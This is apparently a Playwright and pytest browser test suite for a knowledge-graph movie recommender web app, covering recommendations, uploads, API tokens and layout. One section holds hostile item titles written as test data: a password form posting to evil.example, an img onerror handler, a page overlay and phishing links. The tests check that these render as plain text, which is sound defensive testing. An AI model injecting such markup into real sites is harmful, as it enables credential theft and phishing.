"""The app in a real headless browser (Playwright driving Debian's chromium): recommend for a
new user and see the explanations and the drawn paths, add an item and find it recommended,
upload a bad catalog and read the report, type an unknown id and get a message. Every
request the page makes must stay on 127.0.0.1 (no CDN, no fonts from the internet).
The same server answers gradio_client (docs/API.md), which needs no browser.

Needs /usr/bin/chromium (``apt-get install chromium``; or KGREC_CHROMIUM=path); skipped
without it unless KGREC_REQUIRE_BROWSER=1. Playwright's own browser downloads are never used.
"""
from __future__ import annotations

import contextlib
import json
import os
import re
import socket
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import pytest

from kgrec.kg.catalog import Catalog
from kgrec.kg.settings import Settings
from ui_support import copy_home, settings_for, trained_home

CHROMIUM = os.environ.get("KGREC_CHROMIUM", "/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]
TIMEOUT_MS = 30_000

sync_api = pytest.importorskip("playwright.sync_api")
expect = sync_api.expect
# The app answers within a second or two on an idle machine; CI shares 2 cores with the
# rest of the suite, so each expectation may wait longer than Playwright's 5 s default.
expect.set_options(timeout=30_000)


def _browser_or_skip() -> str:
    if Path(CHROMIUM).is_file():
        return CHROMIUM
    message = f"no chromium at {CHROMIUM}: apt-get install chromium (or set KGREC_CHROMIUM)"
    if os.environ.get("KGREC_REQUIRE_BROWSER") == "1":
        pytest.fail(f"KGREC_REQUIRE_BROWSER=1 but {message}")
    pytest.skip(message)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@contextlib.contextmanager
def served_app(ml100k_catalog: Catalog, data_settings: Settings, tmp_path_factory: pytest.TempPathFactory, name: str,
               **changes: object) -> Iterator[str]:
    """The app over a copy of the small trained home (settings ``changes`` applied), served
    from a thread on a free port; yields its URL."""
    from kgrec.app.service import RecommendationService
    from kgrec.app.ui.actions import UiActions
    from kgrec.app.ui.layout import build_app, launch

    shared = trained_home(ml100k_catalog, tmp_path_factory.mktemp("ui"), data_settings.home / "cache")
    home = copy_home(shared, tmp_path_factory.mktemp(name) / "home")
    service = RecommendationService(settings_for(home).with_(**changes))
    app = build_app(UiActions(service))
    _, url = launch(app, "127.0.0.1", _free_port(), block=False, quiet=True)
    try:
        yield url.rstrip("/")
    finally:
        app.close()
        service.close()


@pytest.fixture(scope="module")
def app_url(ml100k_catalog: Catalog, data_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app over a copy of the small trained home, served from a thread on a free port."""
    with served_app(ml100k_catalog, data_settings, tmp_path_factory, "browser") as url:
        yield url


@pytest.fixture(scope="module")
def browser(app_url: str) -> Iterator[object]:
    executable = _browser_or_skip()
    with sync_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        try:
            yield launched
        finally:
            launched.close()


WIDTHS = [1400, 390]
"""A desktop and a phone (CSS pixels)."""


@contextlib.contextmanager
def _opened(browser, app_url: str, width: int = 1400):  # type: ignore[no-untyped-def]
    """A fresh page on the app ``width`` pixels wide; afterwards, no request may have left 127.0.0.1."""
    context = browser.new_context(viewport={"width": width, "height": 1000})
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    opened = context.new_page()
    opened.set_default_timeout(TIMEOUT_MS)
    opened.goto(app_url)
    expect(opened.locator("#recommend-button")).to_be_visible()
    yield opened
    context.close()
    outside = sorted({u for u in requests if urlparse(u).hostname not in ("127.0.0.1", None) and not u.startswith("data:")})
    assert not outside, f"the page fetched from outside the server: {outside}"
    assert any(u.startswith("http://127.0.0.1") for u in requests)


@pytest.fixture
def page(browser, app_url: str):  # type: ignore[no-untyped-def]
    with _opened(browser, app_url) as opened:
        yield opened


@pytest.fixture(params=WIDTHS, ids=[f"{w}px" for w in WIDTHS])
def sized_page(browser, app_url: str, request: pytest.FixtureRequest):  # type: ignore[no-untyped-def]
    with _opened(browser, app_url, request.param) as opened:
        yield opened


def _pick(page, dropdown: str, search: str, option: str | re.Pattern[str]) -> None:  # type: ignore[no-untyped-def]
    box = page.locator(f"#{dropdown} input")
    box.click()
    box.fill("")
    box.press_sequentially(search)  # typed key by key: the dropdown filters on input events
    page.get_by_role("option", name=option, exact=isinstance(option, str)).click()
    page.keyboard.press("Escape")


def _tab(page, name: str) -> None:  # type: ignore[no-untyped-def]
    """Open a tab: from the tab row, or on a narrow screen from its "More tabs" menu."""
    tab = page.get_by_role("tab", name=name, exact=True)
    if not tab.count() or not tab.is_visible():
        page.get_by_role("button", name="More tabs").click()
        tab = page.locator(".overflow-dropdown button", has_text=name)
    tab.click()


def _new_items_for_a_star_wars_fan(page) -> None:  # type: ignore[no-untyped-def]
    """On the Recommend tab: like Star Wars (found by words), ask for new items only."""
    _tab(page, "Recommend")
    page.locator("#item-search textarea, #item-search input").first.fill("star wars")
    page.keyboard.press("Enter")
    _pick(page, "liked", "star wars", "Star Wars (50)")
    page.locator("#only-new input").check()
    page.locator("#recommend-button").click()


def test_a_new_user_gets_explained_recommendations_and_their_paths(page) -> None:  # type: ignore[no-untyped-def]
    _pick(page, "liked", "star wars", "Star Wars (50)")
    _pick(page, "liked", "return of the", "Return of the Jedi (181)")
    page.locator("#recommend-button").click()
    expect(page.locator("#explanations")).to_contain_text("You liked")
    expect(page.locator("#recommendations [role=row]")).to_have_count(11)  # the header and 10 items

    _tab(page, "Explain")
    expect(page.locator("#path-text")).to_contain_text("why it was recommended")
    expect(page.locator("#path-text")).to_contain_text("You liked")
    image = page.locator("#path-image img")
    expect(image).to_be_visible()
    assert image.evaluate("img => img.naturalWidth") == 1000

    _tab(page, "Model")
    expect(page.locator("#model-text")).to_contain_text("Model: default")
    expect(page.locator("#training-curve img")).to_be_visible()


def test_an_added_item_is_recommended_at_once(page) -> None:  # type: ignore[no-untyped-def]
    _tab(page, "Catalog")
    page.locator("#new-title textarea, #new-title input").first.fill("Star Wars: The Clone Saga")
    page.locator("#new-description textarea").fill("Jedi knights fight the empire again, in a galaxy far, far away.")
    _pick(page, "new-links", "sci-fi", "genre: Sci-Fi")
    page.locator("#new-more-links textarea").fill("DIRECTED_BY = m.07nznf")
    page.locator("#add-button").click()
    expect(page.locator("#add-report")).to_contain_text("Added")
    expect(page.locator("#add-report")).to_contain_text("it is served now")

    _new_items_for_a_star_wars_fan(page)
    expect(page.locator("#recommendations")).to_contain_text("Star Wars: The Clone Saga")
    expect(page.locator("#explanations")).to_contain_text("Star Wars: The Clone Saga")

    _tab(page, "Explore")
    page.locator("#explore-query textarea, #explore-query input").first.fill("clone saga")
    page.locator("#explore-search").click()
    expect(page.locator("#explore-results")).to_contain_text("Star Wars: The Clone Saga")
    page.locator("#explore-results [role=gridcell]").filter(has_text="Star Wars: The Clone Saga").first.click()
    expect(page.locator("#node-text")).to_contain_text("Star Wars: The Clone Saga")
    expect(page.locator("#node-table")).to_contain_text("IN_GENRE")
    expect(page.locator("#node-image img")).to_be_visible()


def test_a_bad_upload_shows_the_report(page, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    items = tmp_path / "items.csv"
    items.write_bytes("item_id,title\nb-1,Fine film\nb-2,Caf\xe9 in latin-1\n".encode("latin-1"))
    interactions = tmp_path / "interactions.csv"
    interactions.write_text("user_id,item_id\nb-user,b-1\nb-user,no-such-item\n")
    _tab(page, "Catalog")
    page.locator("#catalog-files input[type=file]").set_input_files([str(items), str(interactions)])
    expect(page.locator("#catalog-files")).to_contain_text(re.compile(r"interactions\s*\.csv"))
    page.locator("#upload-button").click()
    report = page.locator("#upload-report")
    expect(report).to_contain_text("Rejected: 2 row(s)")
    expect(page.locator("#rejected")).to_contain_text("not_utf8")
    expect(page.locator("#rejected")).to_contain_text("unknown_item")
    expect(report).to_contain_text("reloaded")
    _tab(page, "Recommend")  # the pickers know the new user and item
    user = page.locator("#user-id input")
    user.click()
    user.press_sequentially("b-us")
    expect(page.get_by_role("option", name="b-user", exact=True)).to_be_visible()
    page.keyboard.press("Escape")
    _tab(page, "Catalog")

    # A file-level error ingests nothing and says why.
    bad = tmp_path / "bad" / "items.csv"
    bad.parent.mkdir()
    bad.write_text("id,name\nx,y\n")
    page.locator("#catalog-files").get_by_role("button", name="Clear").click()
    page.locator("#catalog-files input[type=file]").set_input_files([str(bad)])
    expect(page.locator("#catalog-files")).to_contain_text(re.compile(r"items\s*\.csv"))
    page.locator("#upload-button").click()
    expect(report).to_contain_text("Nothing was ingested")


def test_an_unknown_user_gets_a_message_and_the_app_stays_up(page) -> None:  # type: ignore[no-untyped-def]
    user = page.locator("#user-id input")
    user.click()
    user.fill("no-such-user")
    page.keyboard.press("Escape")
    page.locator("#recommend-button").click()
    expect(page.locator("#explanations")).to_contain_text("Error: unknown user_id 'no-such-user'")
    _tab(page, "Explore")
    page.locator("#node-id textarea, #node-id input").first.fill("no-such-item")
    page.locator("#neighbours-button").click()
    expect(page.locator("#node-text")).to_contain_text(re.compile("there is no Item with id 'no-such-item'"))


def test_the_api_through_gradio_client(app_url: str, tmp_path: Path) -> None:
    from gradio_client import Client, handle_file

    client = Client(app_url, verbose=False)
    answer = client.predict(request={"id": 1, "liked": ["50", "181"], "k": 3}, api_name="/recommend_json")
    assert answer["id"] == 1 and answer["error"] is None and len(answer["items"]) == 3
    assert all(item["explanations"] for item in answer["items"])
    assert client.predict(request={"id": 2, "user_id": "nobody"}, api_name="/recommend_json")["error"] == \
        "unknown user_id 'nobody'"

    table, markdown, choices = client.predict(liked_ids=["50", "181"], k_value=3, gender="female", api_name="/recommend")
    assert [row[0] for row in table["data"]] == [1, 2, 3] and "You liked" in markdown
    # The same session's recommendations. An item uploaded with a title alone (an earlier
    # test's) may rank among them by its text neighbours: it has no path, and says so.
    explained = [client.predict(item_id=row[1], api_name="/explain") for row in table["data"]]
    assert all("why it was recommended" in text or "no path of at most three hops" in text for text, _, _ in explained)
    text, picture, hops = next(found for found in explained if "why it was recommended" in found[0])
    assert Path(picture).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and hops["data"]

    found = client.predict(query_text="star wars", api_name="/search_items")
    assert "50" in [row[0] for row in found["data"]]
    text, picture, neighbours = client.predict(label_value="Item", node="50", api_name="/neighbours")
    assert "Star Wars" in text and Path(picture).is_file() and neighbours["data"]

    assert client.predict(title="", api_name="/add_item").startswith("**The item was not added.**")
    assert "**Added** *From the API*" in client.predict(title="From the API", links=["IN_GENRE|genre:Drama"],
                                                        api_name="/add_item")
    items = tmp_path / "items.csv"
    items.write_text("item_id,title\napi-1,Uploaded through the API\n")
    interactions = tmp_path / "interactions.csv"
    interactions.write_text("user_id,item_id\napi-user,api-1\napi-user,no-such-item\n")
    report, rejected = client.predict(paths=[handle_file(str(items)), handle_file(str(interactions))],
                                      api_name="/upload_catalog")
    assert "**Rejected:** 1 row(s)" in report and rejected["data"][0][3] == "unknown_item"

    text, evaluation, curve = client.predict(api_name="/model_info")
    assert "Model:** default" in text and Path(curve).is_file()


# --- nothing but text from the data ------------------------------------------------------------

HOSTILE_TITLES = [
    '<form action="http://evil.example/steal"><input type="password" placeholder="Your password"></form> Form Film',
    '<img src="http://evil.example/pixel.png" onerror="document.title=\'owned\'"> Pixel Film',
    '<div id="kgrec-overlay" style="position:fixed;inset:0;z-index:9999;background:#c00">Overlay Film</div>',
    "[Click here](http://evil.example/phish) and http://evil.example/bare and www.evil.example Link Film",
    "$\\undefinedmacro{x}$ and $$x^2$$ Math Film",
]
MARKDOWN = ["#explanations", "#path-text", "#node-text", "#add-report"]
"""Where the titles reach Markdown: nothing but text elements may be there."""
ACTIVE_TAGS = ["form", "input", "img", "a", "iframe", "script", "style", "button", "svg", "video", "audio", "object",
               "embed", "textarea", "select", "math"]
FROM_DATA = ("[src*=evil], [href*=evil], [action*=evil], [onerror], #kgrec-overlay, [style*=fixed], .katex, "
             "input[type=password]:not(#write-token input)")
"""Anywhere on the page (tables included): what only the hostile titles' markup could have made."""


def _elements_from_data(page) -> dict[str, list[str]]:  # type: ignore[no-untyped-def]
    return page.evaluate("""([markdown, tags, fromData]) => {
        const found = {};
        for (const selector of markdown) {
            const root = document.querySelector(selector);
            const active = root ? [...root.querySelectorAll(tags.join(','))] : [];
            if (active.length) found[selector] = active.map(e => e.outerHTML.slice(0, 120));
        }
        const anywhere = [...document.querySelectorAll(fromData)];
        if (anywhere.length) found['page'] = anywhere.map(e => e.outerHTML.slice(0, 120));
        return found;
    }""", [MARKDOWN, ACTIVE_TAGS, FROM_DATA])


def test_hostile_titles_are_shown_as_text(page, app_url: str) -> None:  # type: ignore[no-untyped-def]
    from gradio_client import Client

    client = Client(app_url, verbose=False)
    for number, title in enumerate(HOSTILE_TITLES):
        added = client.predict(title=title, item_id=f"hostile-{number}", description="Jedi knights, in a hostile title.",
                               links=["IN_GENRE|genre:Sci-Fi", "IN_GENRE|genre:Action"], api_name="/add_item")
        assert added.startswith("**Added**"), added

    _pick(page, "liked", "star wars", "Star Wars (50)")
    page.locator("#only-new input").check()
    page.locator("#recommend-button").click()
    for title in HOSTILE_TITLES:
        expect(page.locator("#recommendations")).to_contain_text(title)
        expect(page.locator("#explanations")).to_contain_text(title)
    _tab(page, "Explain")
    expect(page.locator("#path-text")).to_contain_text("why it was recommended")
    expect(page.locator("#path-image img")).to_be_visible()
    _tab(page, "Explore")
    page.locator("#explore-query textarea, #explore-query input").first.fill("Film")
    page.locator("#explore-search").click()
    expect(page.locator("#explore-results")).to_contain_text("Overlay Film")
    page.locator("#explore-results [role=gridcell]").filter(has_text="Overlay Film").first.click()
    expect(page.locator("#node-text")).to_contain_text(HOSTILE_TITLES[2])
    expect(page.locator("#node-image img")).to_be_visible()

    assert _elements_from_data(page) == {}
    assert page.title() != "owned" and page.locator("input[type=password]:visible").count() == 0
    # The overlay did not cover the page: the tab buttons still take clicks.
    _tab(page, "Recommend")
    expect(page.locator("#recommend-button")).to_be_visible()


def test_the_api_schema_lists_no_ids(app_url: str) -> None:
    import httpx

    info = httpx.get(f"{app_url}/gradio_api/info", timeout=30).json()
    config = httpx.get(f"{app_url}/config", timeout=30).text
    enums = [p for endpoint in info["named_endpoints"].values() for p in endpoint["parameters"]
             if "enum" in json.dumps(p.get("type", {})) and json.loads(json.dumps(p["type"])).get("enum",
                 p["type"].get("items", {}).get("enum") if isinstance(p["type"], dict) else None)]
    named = {p["parameter_name"] for p in enums}
    assert not named & {"user_id", "liked_ids", "item_id"}, named
    assert '"Star Wars (50)"' not in config and '"Return of the Jedi (181)"' not in config


# --- access control over HTTP ----------------------------------------------------------------------

READ_TOKEN = "a-read-token-for-the-tests"
WRITE_TOKEN = "a-write-token-for-the-tests"


@pytest.fixture(scope="module")
def guarded_url(ml100k_catalog: Catalog, data_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app with KGREC_API_TOKEN and KGREC_READ_TOKEN set."""
    with served_app(ml100k_catalog, data_settings, tmp_path_factory, "guarded", api_token=WRITE_TOKEN,
                    read_token=READ_TOKEN) as url:
        yield url


def test_with_tokens_reads_need_a_login_and_writes_the_write_token(guarded_url: str, tmp_path: Path) -> None:
    import httpx
    from gradio_client import Client, handle_file

    for path in ("/gradio_api/info", "/config"):
        assert httpx.get(guarded_url + path, timeout=30).status_code == 401
    assert httpx.post(f"{guarded_url}/gradio_api/call/recommend_json", json={"data": [{"liked": ["50"]}]},
                      timeout=30).status_code == 401
    with pytest.raises(Exception):  # noqa: B017 - gradio_client's own error for a refused login
        Client(guarded_url, verbose=False, auth=("anyone", "not-the-token"))

    reader = Client(guarded_url, verbose=False, auth=("reader", READ_TOKEN))
    assert len(reader.predict(request={"id": 1, "liked": ["50"], "k": 2}, api_name="/recommend_json")["items"]) == 2
    items = tmp_path / "items.csv"
    items.write_text("item_id,title\nguarded-1,Needs the write token\n")
    interactions = tmp_path / "interactions.csv"
    interactions.write_text("user_id,item_id\n")
    for token, message in (("", "needs the API token"), (READ_TOKEN, "the API token is wrong")):
        refused = reader.predict(title="Anonymous", item_id="guarded-anon", token=token, api_name="/add_item")
        assert refused.startswith("**The item was not added.**") and message in refused
        report, _ = reader.predict(paths=[handle_file(str(items)), handle_file(str(interactions))], token=token,
                                   api_name="/upload_catalog")
        assert report.startswith("**Nothing was ingested.**") and message in report
    found = reader.predict(query_text="write token", api_name="/search_items")
    assert found["data"] == []  # nothing was written

    assert reader.predict(title="With the token", item_id="guarded-2", token=WRITE_TOKEN,
                          api_name="/add_item").startswith("**Added**")
    report, _ = reader.predict(paths=[handle_file(str(items)), handle_file(str(interactions))], token=WRITE_TOKEN,
                               api_name="/upload_catalog")
    assert report.startswith("**Ingested**"), report
    assert {row[0] for row in reader.predict(query_text="token", api_name="/search_items")["data"]} == {"guarded-1", "guarded-2"}


# --- at a desktop's and a phone's width ----------------------------------------------------------

SCROLLERS = """(selector) => [...document.querySelector(selector).querySelectorAll('*')]
    .filter(e => ['auto', 'scroll'].includes(getComputedStyle(e).overflowX) && e.scrollWidth > e.clientWidth + 1)
    .map(e => { e.scrollLeft = e.scrollWidth; return [e.scrollWidth, e.clientWidth]; })"""
"""The boxes inside ``selector`` that scroll sideways (scrolled to their right end)."""


def _fits(page, *selectors: str) -> None:  # type: ignore[no-untyped-def]
    """The document never scrolls sideways, and each element lies within the viewport."""
    width = page.viewport_size["width"]
    scroll, client = page.evaluate("() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]")
    assert scroll <= client == width, f"the page is {scroll} px wide in a {client} px window"
    for selector in selectors:
        box = page.locator(selector).bounding_box()
        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= width + 0.5, (selector, box)


def _table_fits(page, selector: str, column: str) -> None:  # type: ignore[no-untyped-def]
    """A table inside the viewport whose every column can be reached: on a narrow screen it
    scrolls sideways in its own box, and scrolled to the end its ``column`` is in view."""
    _fits(page, selector)
    scrollers = page.evaluate(SCROLLERS, selector)
    box = page.locator(selector).bounding_box()
    header = page.locator(selector).get_by_role("columnheader", name=column, exact=True)
    expect(header).to_be_visible()
    cell = header.bounding_box()
    assert cell is not None and box["x"] <= cell["x"] and cell["x"] + cell["width"] <= box["x"] + box["width"] + 1, \
        (scrollers, box, cell)
    if page.viewport_size["width"] < 600:
        assert scrollers, f"{selector} is cut off instead of scrolling"


def _screenshot(page, path: Path) -> None:  # type: ignore[no-untyped-def]
    """A whole-page picture exactly as wide as the window (nothing sticks out sideways)."""
    from PIL import Image

    page.screenshot(path=str(path), full_page=True)
    with Image.open(path) as shot:
        assert shot.width == page.viewport_size["width"], shot.size
        assert shot.height > 600


def test_the_app_at_both_widths(sized_page, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    page, width = sized_page, sized_page.viewport_size["width"]
    # Nothing given: a plain sentence, counts as no scores.
    page.locator("#recommend-button").click()
    expect(page.locator("#explanations")).to_contain_text("Nothing was given to go on")
    expect(page.locator("#explanations")).not_to_contain_text("Free text")
    expect(page.locator("#explanations")).to_contain_text("interactions")

    # The find-items box finds titles by their words and the sequels by meaning; the picker takes items only.
    page.locator("#item-search textarea, #item-search input").first.fill("wars star")
    page.keyboard.press("Enter")
    page.locator("#liked input").click()
    expect(page.get_by_role("option", name="Star Wars (50)", exact=True)).to_be_visible()
    page.get_by_role("option", name="Return of the Jedi (181)", exact=True).click()
    page.keyboard.press("Escape")
    typed = page.locator("#liked input")
    typed.click()
    typed.fill("Star Wars (1977)")
    page.keyboard.press("Enter")
    expect(page.get_by_text("'Star Wars (1977)' is no item of the catalog")).to_be_visible()  # a notice
    page.keyboard.press("Escape")
    expect(page.locator("#liked").get_by_role("button", name=re.compile("^Remove"))).to_have_count(1)  # one chip:
    expect(page.locator("#liked")).to_contain_text("Return of the Jedi (181)")  # the item, not the typed text
    page.locator("#recommend-button").click()
    expect(page.locator("#explanations")).to_contain_text("You liked")
    expect(page.locator("#recommendations [role=row]")).to_have_count(11)
    assert not re.search(r"\d\.\d{4}", page.locator("#recommendations").inner_text())  # rounded: 3 decimals
    _table_fits(page, "#recommendations", "score")
    _fits(page, "#explanations", "#recommend-button", "#liked")
    _screenshot(page, tmp_path / f"recommend-{width}.png")

    _tab(page, "Explain")
    image = page.locator("#path-image img")
    expect(image).to_be_visible()
    drawn = image.bounding_box()
    assert drawn is not None and drawn["width"] >= 800  # readable: on a phone it scrolls in its box
    expect(page.locator("#path-image").get_by_role("button", name="Fullscreen")).to_be_visible()
    _fits(page, "#path-image", "#path-text")
    _table_fits(page, "#path-table", "to")
    _screenshot(page, tmp_path / f"explain-{width}.png")

    _tab(page, "Explore")
    page.locator("#entity-query textarea, #entity-query input").first.fill("star wars")
    _pick(page, "entity-type", "director", "director")
    page.locator("#entity-search").click()
    results = page.locator("#entity-results")
    expect(results).to_contain_text("director of Star Wars")
    _table_fits(page, "#entity-results", "items")
    results.get_by_role("gridcell").filter(has_text="director of Star Wars").first.click()
    expect(page.locator("#node-text")).to_contain_text("director of Star Wars")
    expect(page.locator("#node-image img")).to_be_visible()
    _table_fits(page, "#node-table", "name")
    page.locator("#explore-query textarea, #explore-query input").first.fill("jedi knights")
    page.locator("#explore-semantic input").check()
    page.locator("#explore-search").click()
    expect(page.locator("#explore-results")).to_contain_text("Return of the Jedi")
    assert not re.search(r"\d\.\d{3,}", page.locator("#explore-results").inner_text())  # the match rounded: 0.57
    _table_fits(page, "#explore-results", "match")
    _screenshot(page, tmp_path / f"explore-{width}.png")

    _tab(page, "Model")
    expect(page.locator("#model-text")).to_contain_text("No evaluation of this model has been recorded")
    expect(page.locator("#model-text")).not_to_contain_text("kgrec evaluate")
    _fits(page, "#model-text", "#training-curve")
    _screenshot(page, tmp_path / f"model-{width}.png")


@pytest.mark.parametrize("width", WIDTHS, ids=[f"{w}px" for w in WIDTHS])
def test_adding_an_item_clears_the_form_and_a_twin_is_refused(browser, app_url: str, width: int,
                                                                tmp_path: Path) -> None:
    with _opened(browser, app_url, width) as page:
        _tab(page, "Catalog")
        title = f"The Form Saga {width}"
        page.locator("#new-title textarea, #new-title input").first.fill(title)
        page.locator("#new-description textarea").fill("Jedi knights, once more, in a form.")
        page.locator("#link-query textarea, #link-query input").first.fill("star wars")
        _pick(page, "link-type", "director", "director")
        expect(page.locator("#new-links input")).to_be_enabled()
        # "director of Star Wars", or "... and 1 more" once the other width's test has added its item
        _pick(page, "new-links", "director", re.compile(r"^director of Star Wars"))
        _pick(page, "new-links", "sci-fi", "genre: Sci-Fi")
        page.locator("#add-button").click()
        expect(page.locator("#add-report")).to_contain_text(f"Added {title}")
        expect(page.locator("#add-report")).to_contain_text("items 1 new")
        expect(page.locator("#new-title textarea, #new-title input").first).to_have_value("")
        expect(page.locator("#new-description textarea")).to_have_value("")
        expect(page.locator("#new-links")).not_to_contain_text("director of Star Wars")
        _fits(page, "#add-report", "#add-button", "#new-links")
        _screenshot(page, tmp_path / f"catalog-{width}.png")

        page.locator("#new-title textarea, #new-title input").first.fill(title)
        page.locator("#new-description textarea").fill("Jedi knights, once more, in a form.")
        page.locator("#add-button").click()
        expect(page.locator("#add-report")).to_contain_text("already has this title and description, so it was not "
                                                            "added twice")
        expect(page.locator("#new-title textarea, #new-title input").first).to_have_value(title)  # kept to be changed

        _new_items_for_a_star_wars_fan(page)
        expect(page.locator("#recommendations")).to_contain_text(title)
        expect(page.locator("#explanations")).to_contain_text(re.compile(r"items?, not the 10 asked: only \d+ items? (is|are) new"))
